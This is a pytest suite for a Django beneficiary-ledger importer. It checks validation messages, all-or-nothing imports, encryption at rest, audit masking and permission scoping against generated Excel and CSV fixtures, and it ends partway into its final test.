"""Importing the beneficiary ledger: whole files in, all or nothing, every problem named by row and column.

Files are built two ways: with openpyxl (inline strings, as programs write them) and with `excel_xlsx` below,
which writes the XML the way Excel does (shared strings, dates as styled serial numbers, formulas with their
cached results), since read-only openpyxl treats the two differently.
"""

from __future__ import annotations

import io
import os
import time
import zipfile
from datetime import date, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from django.conf import settings
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from shuangbai.core.crypto import lookup_hash
from shuangbai.core.models import AuditAction, AuditEntry
from shuangbai.core.validators import PHONE_ERROR
from shuangbai.regions.models import Region
from shuangbai.registry.ledger import (
    COLUMNS,
    MAX_UPLOAD_BYTES,
    REQUIRED_KEYS,
    LedgerError,
    error_file_bytes,
    import_ledger,
    template_workbook,
)
from shuangbai.registry.models import Beneficiary, BeneficiaryCategory, Household, ImportRun
from shuangbai.registry.services import placement
from tests.conftest import id_number

HEADERS = [f"{header}*" if key in REQUIRED_KEYS else header for header, key in COLUMNS]
KEYS = [key for _, key in COLUMNS]
LUODING = "445381000000"


def person(name: str, number: str = "", **cells) -> dict:
    """One row by column key; 素龙街道 凤塘村 (station A, point A) and 低保对象 unless told otherwise."""
    return {
        "name": name,
        "id_number": number,
        "town": "素龙街道",
        "village": "凤塘村",
        "category1": "低保对象",
    } | cells


def ledger_rows(people: list[dict], headers: list[str] = HEADERS, keys: list[str] = KEYS) -> list[list]:
    return [headers] + [[row.get(key) for key in keys] for row in people]


def ledger_xlsx(people: list[dict], *, title: str | None = None, trailing_blank: int = 0) -> bytes:
    """A ledger as a program (openpyxl) writes one, with the ID column as text."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "服务对象"
    if title:
        sheet.append([title])
    for row in ledger_rows(people):
        sheet.append(row)
    for _ in range(trailing_blank):
        sheet.append([None, "  ", None, "\u3000"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class Formula:
    """A formula cell; `cached` is what Excel stored as its last result (None: never calculated)."""

    def __init__(self, text: str, cached=None):
        self.text, self.cached = text, cached


class ExcelDate:
    """A number with a date format, as Excel stores a date."""

    def __init__(self, day: date):
        self.serial = (day - date(1899, 12, 30)).days


def excel_xlsx(rows: list[list]) -> bytes:
    """An .xlsx written the way Excel writes one: shared strings, a dimension, styled dates, cached formulas."""
    strings: dict[str, int] = {}
    xml_rows = []
    width = max(len(row) for row in rows)
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row, start=1):
            ref = f"{get_column_letter(c)}{r}"
            if value is None:
                continue
            if isinstance(value, str):
                index = strings.setdefault(value, len(strings))
                cells.append(f'<c r="{ref}" t="s"><v>{index}</v></c>')
            elif isinstance(value, ExcelDate):
                cells.append(f'<c r="{ref}" s="1"><v>{value.serial}</v></c>')
            elif isinstance(value, Formula):
                formula = f"<f>{escape(value.text)}</f>"
                if value.cached is None:
                    cells.append(f'<c r="{ref}">{formula}</c>')
                elif isinstance(value.cached, str):
                    kind = "e" if value.cached.startswith("#") else "str"  # an error value, or text
                    cells.append(f'<c r="{ref}" t="{kind}">{formula}<v>{escape(value.cached)}</v></c>')
                else:
                    cells.append(f'<c r="{ref}">{formula}<v>{value.cached}</v></c>')
            else:
                cells.append(f'<c r="{ref}"><v>{value!r}</v></c>')
        xml_rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{ct}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ct}.worksheet+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{ct}.sharedStrings+xml"/>'
            f'<Override PartName="/xl/styles.xml" ContentType="{ct}.styles+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" Target="xl/workbook.xml" '
            f'Type="{rel}/officeDocument"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            '<sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{pkg}">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'
            f'<Relationship Id="rId3" Type="{rel}/styles" Target="styles.xml"/></Relationships>'
        ),
        "xl/styles.xml": (
            f'<styleSheet xmlns="{main}"><fonts count="1"><font/></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
            '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
            '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'
            '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
            "</styleSheet>"
        ),
        "xl/sharedStrings.xml": (
            f'<sst xmlns="{main}">' + "".join(f"<si><t>{escape(s)}</t></si>" for s in strings) + "</sst>"
        ),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{main}"><dimension ref="A1:{get_column_letter(width)}{len(rows)}"/>'
            f"<sheetData>{''.join(xml_rows)}</sheetData></worksheet>"
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + text)
    return buffer.getvalue()


def county_import(world, data: bytes, *, update: bool = False, filename: str = "台账.xlsx") -> ImportRun:
    return import_ledger(
        actor=world.county, data=data, filename=filename, into=Region.objects.get(code=LUODING), update=update
    )


def counts() -> tuple[int, int, int]:
    return Household.objects.count(), Beneficiary.objects.count(), BeneficiaryCategory.objects.count()


def error_sheet(run: ImportRun):
    return load_workbook(io.BytesIO(error_file_bytes(run))).active


def error_column(sheet) -> dict[int, str]:
    """{row number: text of the 错误 column} for the rows that have one."""
    header_row = next(r for r in sheet.iter_rows() if any(c.value == "错误" for c in r))
    column = next(c.column for c in header_row if c.value == "错误")
    return {
        row[0].row: row[column - 1].value
        for row in sheet.iter_rows(min_row=header_row[0].row + 1)
        if len(row) >= column and row[column - 1].value
    }


# ---------------------------------------------------------------------------------------------- good files


def test_a_good_file_registers_households_people_and_categories(world):
    head = id_number("445381", "19520304", "011")
    wife = id_number("445381", "19550607", "022")
    alone = id_number("440103", "19400101", "033")
    data = ledger_xlsx(
        [
            person("王大", head, household="1", relation="户主", address="凤塘村3号", phone="13800001111"),
            person(
                "李二",
                wife,
                household="1",
                relation="配偶",
                category2="残疾人",
                disability_type="肢体残疾",
                disability_grade="二级",
                phone="0766-3812345",
            ),
            person(
                "王小",
                "",
                household="1",
                relation="子女",
                no_id_reason="无户籍",
                gender="男",
                birth_date="2015年3月4日",
                follow_up_level="1",
                risk_level="高",
                living_situation="留守",
            ),
            person(
                "陈独",
                alone,
                town="罗城街道",
                village="柑园村",
                category1="独居老人",
                living_situation="独居",
                health_notes="高血压，需每周探访",
                guardian_name="陈子",
                guardian_phone="13900002222",
            ),
        ]
    )
    before = counts()
    run = county_import(world, data)

    assert run.status == "done", run.errors
    assert (run.rows, run.created, run.households, run.updated, run.unchanged) == (4, 4, 2, 0, 0)
    assert counts() == (before[0] + 2, before[1] + 4, before[2] + 5)
    wang = Beneficiary.objects.get(id_hash=lookup_hash(head))
    family = wang.household
    assert family.address == "凤塘村3号" and family.phone == "13800001111"
    assert family.station == world.station_a and family.point == world.point_a
    assert family.region_code == "445381002201"
    members = {p.name: p for p in family.members.all()}
    assert set(members) == {"王大", "李二", "王小"}
    assert members["王大"].relation == "head" and members["李二"].relation == "spouse"
    assert members["李二"].gender == "F" and members["李二"].birth_date == date(1955, 6, 7)
    assert (members["李二"].disability_type, members["李二"].disability_grade) == ("physical", 2)
    assert members["李二"].phone == "0766-3812345"
    child = members["王小"]
    assert (child.id_hash, child.no_id_reason, child.gender) == (None, "no_hukou", "M")
    assert (child.birth_date, child.follow_up_level, child.risk_level) == (date(2015, 3, 4), 1, "high")
    assert child.living_situation == "left_behind"
    assert sorted(members["李二"].categories.values_list("code", flat=True)) == ["dibao", "disabled"]
    links = BeneficiaryCategory.objects.filter(beneficiary__household=family)
    assert {(link.station_id, link.region_code, link.active) for link in links} == {
        (world.station_a.pk, "445381002201", True)
    }
    chen = Beneficiary.objects.get(name="陈独")
    assert chen.household.members.count() == 1 and chen.relation == "head"
    assert chen.station == world.station_b and chen.point == world.point_b
    assert chen.health_notes == "高血压，需每周探访" and chen.guardian_phone == "13900002222"
    assert chen.registered_by == world.county and chen.registered_on == timezone.localdate()
    assert chen.id_masked == "440103********" + alone[-4:] and chen.id_tail == alone[-4:]
    assert chen.id_number == alone

    # Encrypted at rest: the raw columns hold neither the number nor the health notes.
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT id_number, health_notes, id_hash FROM registry_beneficiary WHERE id = %s", [chen.pk]
        )
        raw_number, raw_notes, raw_hash = cursor.fetchone()
    assert raw_number.startswith("g1:") and alone not in raw_number
    assert raw_notes.startswith("g1:") and "高血压" not in raw_notes
    assert raw_hash == lookup_hash(alone)

    entry = AuditEntry.objects.get(action=AuditAction.CREATE, object_type="registry.importrun")
    assert entry.actor == world.county and entry.region_code == LUODING
    assert entry.changes["新增"] == 4 and entry.changes["新增户数"] == 2
    assert run.error_file == ""
    with pytest.raises(FileNotFoundError):
        error_file_bytes(run)


def test_the_header_is_found_under_a_title_in_any_order_and_blank_rows_are_ignored(world):
    headers = ["备注", " 村（居） * ", "镇(街)", "类别1*", "身份证号码", "姓名 *", "手机号", "内部编号"]
    rows = [
        ["2023年 凤塘村 服务对象台账"],
        [],
        headers,
        [
            "",
            "凤塘村",
            "素龙街道",
            "低保对象",
            id_number("445381", "19600101", "101"),
            "甲",
            13800001234.0,
            "A-1",
        ],
        [None, None, None, None, None, None, None, None],
        ["说明", "凤塘村", "素龙街道", "低保对象", id_number("445381", "19600101", "102"), "乙", None, "A-2"],
        [None, "   ", None, "\u3000"],
        [],
        [None, " "],
    ]
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)

    run = county_import(world, buffer.getvalue())

    assert run.status == "done", run.errors
    assert run.rows == 2 and run.created == 2
    first = Beneficiary.objects.get(name="甲")
    assert first.phone == "13800001234"  # a phone Excel stored as a number
    assert Beneficiary.objects.get(name="乙").notes == "说明"


def test_dates_and_formulas_as_excel_stores_them(world):
    numbers = [
        id_number("445381", birth, f"{i:03d}")
        for i, birth in enumerate(
            ["19500102", "19510203", "19520304", "19530405", "19540506", "19550607"], start=201
        )
    ]
    birth_dates = [
        ExcelDate(date(1950, 1, 2)),  # a date cell: a serial number with a date format
        (date(1951, 2, 3) - date(1899, 12, 30)).days,  # a bare serial number
        "1952/3/4",
        "1953年4月5日",
        "19540506",
        Formula("DATE(1955,6,7)", 20247),  # a formula with its cached result
    ]
    rows = [["姓名*", "身份证号", "出生日期", "性别", "镇（街）*", "村（居）*", "类别1*", "联系电话"]]
    for i, (number, born) in enumerate(zip(numbers, birth_dates, strict=True)):
        rows.append(
            [
                f"人{i}",
                number,
                born,
                "男" if int(number[16]) % 2 else "女",
                "素龙街道",
                "凤塘村",
                "低保对象",
                None,
            ]
        )
    rows[1][0] = Formula('"张"&"三"', "张三")
    rows[2][7] = Formula('"138"&"00001111"', "13800001111")
    rows[3][4] = Formula('"素龙"&"街道"', "素龙街道")

    run = county_import(world, excel_xlsx(rows))

    assert run.status == "done", run.errors
    assert run.created == 6
    assert Beneficiary.objects.filter(name="张三", id_hash=lookup_hash(numbers[0])).exists()
    assert Beneficiary.objects.get(id_hash=lookup_hash(numbers[1])).phone == "13800001111"
    born = dict(Beneficiary.objects.filter(name__startswith="人").values_list("name", "birth_date"))
    assert born["人1"] == date(1951, 2, 3) and born["人5"] == date(1955, 6, 7)


def test_a_formula_without_a_cached_value_is_named_by_its_cell(world):
    rows = [
        ["姓名*", "身份证号", "镇（街）*", "村（居）*", "类别1*"],
        ["甲", id_number("445381", "19600101", "301"), "素龙街道", "凤塘村", "低保对象"],
        [Formula('"乙"&""'), id_number("445381", "19600101", "302"), "素龙街道", "凤塘村", "低保对象"],
        ["丙", id_number("445381", "19600101", "303"), "素龙街道", "凤塘村", Formula("#REF!+1", "#REF!")],
    ]
    before = counts()
    run = county_import(world, excel_xlsx(rows))

    assert run.status == "failed" and run.bad_rows == 2
    assert counts() == before
    messages = {e["row"]: e["message"] for e in run.errors}
    assert "单元格A3为公式且没有计算结果，请在 Excel 中打开并保存后再导入" in messages[3]
    assert messages[3].startswith("姓名：")
    assert "错误值 #REF!" in messages[4] and "类别1" in messages[4]


def test_an_id_number_excel_stored_as_a_number_gets_the_specific_message(world):
    number = id_number("445381", "19600101", "401")
    rows = [
        ["姓名*", "身份证号", "镇（街）*", "村（居）*", "类别1*"],
        ["甲", float(number[:-1] + "0"), "素龙街道", "凤塘村", "低保对象"],
    ]
    run = county_import(world, excel_xlsx(rows))
    assert run.status == "failed"
    assert run.errors[0]["row"] == 2
    assert "身份证号被 Excel 存成了数字" in run.errors[0]["message"]


def test_a_gbk_csv_keeps_a_character_outside_the_basic_plane(world):
    header = ",".join(HEADERS)
    line = ",".join(
        {
            "name": "黄某",
            "id_number": id_number("445381", "19450505", "501"),
            "town": "素龙街道",
            "village": "凤塘村",
            "address": "\U00023e23塘镇迁来，凤塘村5号",
            "category1": "低保对象",
        }.get(key, "")
        for key in KEYS
    )
    data = f"{header}\r\n{line}\r\n,,,\r\n".encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")

    run = county_import(world, data, filename="台账.csv")

    assert run.status == "done", run.errors
    person_ = Beneficiary.objects.get(name="黄某")
    assert person_.household.address == "\U00023e23塘镇迁来，凤塘村5号"


def test_a_utf8_csv_with_a_byte_order_mark_and_a_bad_row_gets_an_xlsx_error_file(world):
    rows = [
        "姓名*,身份证号,镇（街）*,村（居）*,类别1*,联系电话",
        f"甲,{id_number('445381', '19600101', '601')},素龙街道,凤塘村,低保对象,13800000000",
        f"乙,{id_number('445381', '19600101', '602')},素龙街道,凤塘村,低保对象,12345",
    ]
    data = "\ufeff".encode() + "\n".join(rows).encode()
    run = county_import(world, data, filename="台账.csv")
    assert run.status == "failed"
    sheet = error_sheet(run)
    assert sheet.cell(row=1, column=1).value == "姓名*"
    assert sheet.cell(row=1, column=7).value == "错误"
    assert sheet.cell(row=3, column=2).value == id_number("445381", "19600101", "602")
    assert error_column(sheet) == {3: f"联系电话：“12345”不是有效的电话号码：{PHONE_ERROR}"}


# ---------------------------------------------------------------------------------------------- bad files


def test_one_bad_row_among_5000_imports_nothing_and_names_only_that_row(world):
    rows = [HEADERS]
    for i in range(5000):
        number = id_number(
            "4453" + f"{i % 100:02d}", f"19{30 + i % 60}0{1 + i % 9}1{i % 10}", f"{i // 100:03d}"
        )
        row = person(f"人{i}", number, household=f"H{i // 2}", relation="户主" if i % 2 == 0 else "配偶")
        rows.append([row.get(key) for key in KEYS])
    bad_line = 2 + 3137
    rows[bad_line - 1][1] = rows[bad_line - 1][1][:-1] + ("0" if rows[bad_line - 1][1][-1] != "0" else "1")
    before = counts()

    run = county_import(world, excel_xlsx(rows))

    assert run.status == "failed" and run.pk is not None
    assert counts() == before
    assert run.rows == 5000 and run.bad_rows == 1 and run.created == 0
    assert run.errors == [
        {"row": bad_line, "message": "身份证号：身份证号校验位不正确，请核对是否有数字录错。"}
    ]
    sheet = error_sheet(run)
    assert error_column(sheet) == {bad_line: "身份证号：身份证号校验位不正确，请核对是否有数字录错。"}
    assert sheet.max_row == 5001
    assert sheet.cell(row=bad_line, column=1).value == f"人{bad_line - 2}"
    assert sheet.cell(row=bad_line, column=1).fill.start_color.rgb.endswith("FFC7CE")
    assert sheet.cell(row=bad_line - 1, column=1).fill.fill_type is None
    entry = AuditEntry.objects.get(object_type="registry.importrun", object_id=str(run.pk))
    assert entry.changes["错误行数"] == 1


def test_the_error_file_is_kept_encrypted_under_the_instance_folder(world):
    secret = id_number("445381", "19600101", "701")
    run = county_import(world, ledger_xlsx([person("甲", secret, village="不存在村")]))
    assert run.status == "failed"
    path = Path(settings.HOME) / run.error_file
    assert path.parent == Path(settings.HOME) / "imports"
    stored = path.read_bytes()
    assert not stored.startswith(b"PK")
    content = error_file_bytes(run)
    assert content.startswith(b"PK")
    assert secret.encode() not in stored
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert any(secret.encode() in archive.read(name) for name in archive.namelist())


def test_every_row_problem_is_reported_with_its_column(world):
    ok = id_number("445381", "19600101", "801")
    people = [
        person("", id_number("445381", "19600101", "803")),  # 2: no name
        person("乙", id_number("445381", "19600101", "805"), village="不存在村"),  # 3
        person("丙", id_number("445381", "19600101", "807"), category1="富豪"),  # 4
        person("丁", id_number("445381", "19600101", "809"), risk_level="极高", follow_up_level="五级"),  # 5
        person("戊", id_number("445381", "19600101", "811"), phone="1380000", guardian_phone="abc"),  # 6
        person("己", id_number("445381", "19600101", "813"), gender="女", birth_date="1960-01-02"),  # 7
        person("庚", ""),  # 8: no ID and no reason, gender, birth
        person("辛", ok[:-1] + ("1" if ok[-1] != "1" else "2")),  # 9: check character
        person("壬", id_number("445381", "19600101", "815"), town="高峰街道"),  # 10: a town of another county
        person("癸", id_number("445381", "19600101", "817"), disability_grade="二级"),  # 11
        person("子", id_number("445381", "19600101", "819"), household="A", relation="户主"),  # 12
        person("丑", id_number("445381", "19600101", "821"), household="A", relation="户主"),  # 13
        person("寅", id_number("445381", "19600101", "823"), household="B", relation="配偶"),  # 14
        person("卯", id_number("445381", "19600101", "825"), birth_date="2090-01-01"),  # 15
        person("辰", ok),  # 16: fine
    ]
    before = counts()
    run = county_import(world, ledger_xlsx(people))
    assert counts() == before
    messages = {e["row"]: e["message"] for e in run.errors}
    assert 16 not in messages and run.bad_rows == 14
    assert messages[2] == "姓名：必填"
    assert "村（居）：素龙街道没有名为“不存在村”的村（居）" in messages[3]
    assert messages[4] == "类别1：“富豪”不在服务对象类别目录中"
    assert "风险等级：“极高”不是可选值（可选：低、中、高）" in messages[5]
    assert "跟进级别：“五级”不是可选值" in messages[5]
    assert "联系电话：“1380000”不是有效的电话号码" in messages[6] and "联系人电话：“abc”" in messages[6]
    assert "性别：性别与身份证号不符（身份证号显示为男）" in messages[7]
    assert "出生日期：出生日期与身份证号不符（身份证号显示为1960年1月1日）" in messages[7]
    assert "无身份证号原因：未填写身份证号时，请选择无身份证号的原因。" in messages[8]
    assert "性别：未填写身份证号时，请选择性别。" in messages[8]
    assert messages[9] == "身份证号：身份证号校验位不正确，请核对是否有数字录错。"
    assert messages[10] == "镇（街）：“高峰街道”不在罗定市范围内，请核对名称"
    assert messages[11] == "残疾等级：填写了残疾等级，请同时填写残疾类别"
    assert "户号“A”有多个户主（第12行、第13行）" in messages[12] and messages[12] == messages[13]
    assert "户号“B”没有户主" in messages[14]
    assert "出生日期：2090年1月1日晚于今天" in messages[15]


def test_the_same_id_twice_in_the_file_names_both_rows(world):
    twice = id_number("445381", "19600101", "901")
    run = county_import(
        world,
        ledger_xlsx(
            [person("甲", twice), person("乙", id_number("445381", "19600101", "903")), person("丙", twice)]
        ),
    )
    messages = {e["row"]: e["message"] for e in run.errors}
    assert messages == {
        2: "身份证号：与第4行的身份证号相同，同一人只能填写一行",
        4: "身份证号：与第2行的身份证号相同，同一人只能填写一行",
    }


def test_an_id_already_registered_names_the_station_that_holds_it(world):
    held = world.beneficiary_b.id_number
    run = county_import(world, ledger_xlsx([person("重复", held)]))
    assert run.status == "failed"
    assert run.errors[0]["message"] == (
        f"身份证号：该身份证号已在{world.station_b.name}登记，不能重复登记。如需转入本站，请联系该站或县（市、区）民政局。"
    )


def test_with_update_a_registered_person_in_scope_is_updated_and_new_household_members_join(world):
    existing = world.beneficiary_a
    version = existing.version
    child = id_number("445381", "20100101", "911")
    people = [
        person(
            existing.name,
            existing.id_number,
            phone="13812345678",
            category2="独居老人",
            health_notes="糖尿病",
            household="A1",
            relation="户主",
        ),
        person("新成员", child, household="A1", relation="孙子女"),
    ]
    run = county_import(world, ledger_xlsx(people), update=True)

    assert run.status == "done", run.errors
    assert (run.created, run.updated, run.unchanged, run.households) == (1, 1, 0, 0)
    existing.refresh_from_db()
    assert existing.phone == "13812345678" and existing.health_notes == "糖尿病"
    assert existing.version == version + 1
    assert sorted(existing.categories.values_list("code", flat=True)) == ["dibao", "living_alone_elderly"]
    assert (existing.in_hardship, existing.in_special) == (True, True)  # 低保 and 独居老人
    newcomer = Beneficiary.objects.get(name="新成员")
    assert (newcomer.in_hardship, newcomer.in_special) == (True, False)  # 低保 only
    assert newcomer.household_id == existing.household_id and newcomer.relation == "grandchild"
    change = AuditEntry.objects.get(action=AuditAction.CHANGE, object_id=str(existing.pk))
    assert change.changes["phone"] == ["", "138****5678"]  # masked: the log keeps no phone number in clear
    assert change.changes["health_notes"] == [None, "（健康状况已修改）"]
    assert change.changes["类别"] == [["低保对象"], ["低保对象", "独居老人"]]

    again = county_import(world, ledger_xlsx(people[:1]), update=True)
    assert (again.status, again.updated, again.unchanged) == ("done", 0, 1)

    only_one = county_import(
        world, ledger_xlsx([person(existing.name, existing.id_number, category1="独居老人")]), update=True
    )
    assert (only_one.updated, only_one.unchanged) == (1, 0)
    assert list(existing.categories.values_list("code", flat=True)) == ["living_alone_elderly"]
    existing.refresh_from_db()
    assert (existing.in_hardship, existing.in_special) == (False, True)
    assert existing.phone == "13812345678"  # an empty cell leaves the value as it was


def test_with_update_a_person_outside_the_scope_is_refused_naming_the_station(world):
    into = Region.objects.get(code="445381002000")  # 素龙街道, head_a's town
    outsider = world.beneficiary_b  # 罗城街道, station B
    run = import_ledger(
        actor=world.head_a,
        data=ledger_xlsx([person(outsider.name, outsider.id_number)]),
        filename="x.xlsx",
        into=into,
        update=True,
    )
    assert run.status == "failed"
    assert run.errors[0]["message"] == (
        f"身份证号：该身份证号已在{world.station_b.name}登记，不在您的管辖范围内，不能更新。"
    )
    assert Beneficiary.objects.get(pk=outsider.pk).version == outsider.version


def test_a_village_may_be_given_by_its_code(world):
    run = county_import(
        world,
        ledger_xlsx([person("甲", id_number("445381", "19600101", "921"), town="", village="445381001201")]),
    )
    assert run.status == "done", run.errors
    assert Beneficiary.objects.get(name="甲").station == world.station_b


# ---------------------------------------------------------------------------------------------- whole files


def test_a_50_mb_upload_is_refused_at_once(world):
    junk = os.urandom(1024) * (50 * 1024)
    before = ImportRun.objects.count()
    started = time.monotonic()
    with pytest.raises(LedgerError) as error:
        county_import(world, junk)
    assert time.monotonic() - started < 2
    assert str(error.value).startswith("文件过大（50.0 MB），上限为 40 MB。")
    assert ImportRun.objects.count() == before
    assert len(junk) > MAX_UPLOAD_BYTES


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "文件为空。"),
        (os.urandom(4096) + b"\x00\xff", "无法识别该文件"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "旧版 Excel（.xls）"),
        (b"PK\x03\x04" + b"broken" * 100, "不是有效的 .xlsx 文件"),
        ("名称,地址\n甲,乙\n".encode(), "找不到表头"),
        ("姓名,身份证号,村（居）\n甲,,凤塘村\n".encode(), "表头缺少必填列：类别1"),
        ("姓名,身份证号,村（居）,类别1\n".encode(), "表头下面没有数据行"),
    ],
)
def test_a_file_that_is_not_a_ledger_is_refused_with_a_clear_message(world, data, message):
    before = counts(), ImportRun.objects.count()
    with pytest.raises(LedgerError) as error:
        county_import(world, data)
    assert message in str(error.value)
    assert (counts(), ImportRun.objects.count()) == before


def test_a_worker_cannot_import(world):
    with pytest.raises(PermissionDenied):
        import_ledger(
            actor=world.worker_a,
            data=ledger_xlsx([person("甲", id_number("445381", "19600101", "931"))]),
            filename="x.xlsx",
            into=Region.objects.get(code="445381002000"),
        )
    assert not Beneficiary.objects.filter(name="甲").exists()


def test_a_county_cannot_import_into_another_county(world):
    with pytest.raises(PermissionDenied):
        import_ledger(
            actor=world.county,
            data=ledger_xlsx(
                [person("甲", id_number("445302", "19600101", "933"), town="高峰街道", village="高峰村")]
            ),
            filename="x.xlsx",
            into=Region.objects.get(code="445302000000"),
        )
    assert not ImportRun.objects.exists()


# ---------------------------------------------------------------------------------------------- template


def test_the_template_offers_the_users_villages_and_imports_once_filled(world):
    workbook = load_workbook(io.BytesIO(template_workbook(world.head_a)))
    sheet = workbook.worksheets[0]
    assert sheet.title == "服务对象" and workbook.active.title == "服务对象"
    headers = [cell.value for cell in sheet[1]]
    assert (
        headers[:3] == ["姓名*", "身份证号", "无身份证号原因"]
        and "类别1*" in headers
        and "跟进级别" in headers
    )
    id_column = get_column_letter(headers.index("身份证号") + 1)
    assert sheet.column_dimensions[id_column].number_format == "@"
    assert sheet[f"{id_column}2"].number_format == "@"
    lists = workbook["选项"]
    assert lists.sheet_state == "hidden"
    offered = {col[0].value: [c.value for c in col[1:] if c.value] for col in lists.iter_cols()}
    assert offered["村（居）"] == ["凤塘村"]  # head_a's town has one village in the fixture
    assert offered["镇（街）"] == ["素龙街道"]
    assert "低保对象" in offered["类别1"] and offered["跟进级别"] == ["一级", "二级", "三级", "四级"]
    validations = {str(v.sqref).split(":")[0]: v.formula1 for v in sheet.data_validations.dataValidation}
    village_column = get_column_letter(headers.index("村（居）*") + 1)
    assert validations[f"{village_column}2"].startswith("'选项'!$")
    assert all(len(v.formula1) < 255 for v in sheet.data_validations.dataValidation)
    assert "说明" in workbook.sheetnames

    sheet.append(
        [row.get(key) for row in [person("模板甲", id_number("445381", "19600101", "941"))] for key in KEYS]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    run = import_ledger(
        actor=world.head_a,
        data=buffer.getvalue(),
        filename="模板.xlsx",
        into=Region.objects.get(code="445381002000"),
    )
    assert run.status == "done", run.errors
    assert Beneficiary.objects.get(name="模板甲").station == world.station_a


def test_the_template_without_a_user_leaves_places_free(world):
    workbook = load_workbook(io.BytesIO(template_workbook(None)))
    offered = [col[0].value for col in workbook["选项"].iter_cols()]
    assert "村（居）" not in offered and "镇（街）" not in offered and "类别1" in offered


def test_dates_from_a_program_come_as_datetimes(world):
    rows = [person("甲", "", no_id_reason="其他", gender="女", birth_date=datetime(1949, 10, 1))]
    run = county_import(world, ledger_xlsx(rows))
    assert run.status == "done", run.errors
    assert Beneficiary.objects.get(name="甲").birth_date == date(1949, 10, 1)


@pytest.mark.parametrize(
    ("cell", "message"),
    [
        (1950, "出生日期：“1950”只有年份，请填写完整的日期，如 1950-01-02"),
        ("1950-02-30", "出生日期：“1950-02-30”不是有效日期"),
        ("前年", "出生日期：“前年”不是日期，请写成 1950-01-02、1950/1/2 或 1950年1月2日"),
        ("1880-01-01", "出生日期：1880年1月1日早于1890年，请核对"),
    ],
)
def test_a_birth_date_that_is_not_one_is_named(world, cell, message):
    run = county_import(
        world, ledger_xlsx([person("甲", "", no_id_reason="其他", gender="女", birth_date=cell)])
    )
    assert run.errors == [{"row": 2, "message": message}]


def test_the_preloaded_places_agree_with_the_placement_service(world):
    from shuangbai.registry.ledger import _Places

    places = _Places(world.province, Region.objects.get(code="440000000000"))
    assert len(places.by_code) == Region.objects.filter(level="village", code__startswith="44").count()
    for code, village in places.by_code.items():
        try:
            station, point = placement(Region.objects.get(code=code))
        except ValidationError:
            assert village.station_id is None
            continue
        assert (village.station_id, village.point_id) == (station.pk, point.pk if point else None)


def test_the_run_lists_at_most_200_bad_rows_and_the_file_has_them_all(world):
    people = [person(f"人{i}", id_number("445381", "19600101", f"{i:03d}"), phone="123") for i in range(250)]
    run = county_import(world, ledger_xlsx(people))
    assert run.bad_rows == 250 and len(run.errors) == 200
    assert run.errors[-1]["row"] == 201
    assert len(error_column(error_sheet(run))) == 250


def test_a_column_given_twice_is_refused(world):
    data = "姓名,身份证号,村（居）,类别1,姓名\n甲,,凤塘村,低保对象,乙\n".encode()
    with pytest.raises(LedgerError) as error:
        county_import(world, data)
    assert str(error.value) == "表头中“姓名”列出现了两次（第1列和第5列），请只保留一列。"


def test_with_update_a_new_member_cannot_be_a_second_head_and_a_move_is_refused(world):
    existing = world.beneficiary_a
    people = [
        person(existing.name, existing.id_number, household="A1", relation="户主"),
        person("新户主", id_number("445381", "19700101", "951"), household="A1", relation="户主"),
        person(world.beneficiary_b.name, world.beneficiary_b.id_number),  # registered in 柑园村
    ]
    run = county_import(world, ledger_xlsx(people), update=True)
    messages = {e["row"]: e["message"] for e in run.errors}
    assert messages[3] == "与户主关系：户号“A1”的户在系统中已有户主，新成员不能再登记为户主"
    assert messages[4] == "村（居）：此人已登记在柑园村，导入不变更所在村（居）；如已迁居，请在系统中办理转移"
    assert 2 not in messages


def test_a_conflict_found_while_writing_rolls_back_everything(world, monkeypatch):
    # As if someone registered one of the file's people between the check and the write: the database's
    # unique ID constraint stops the insert after households were already written; all of it is undone.
    from shuangbai.registry import ledger

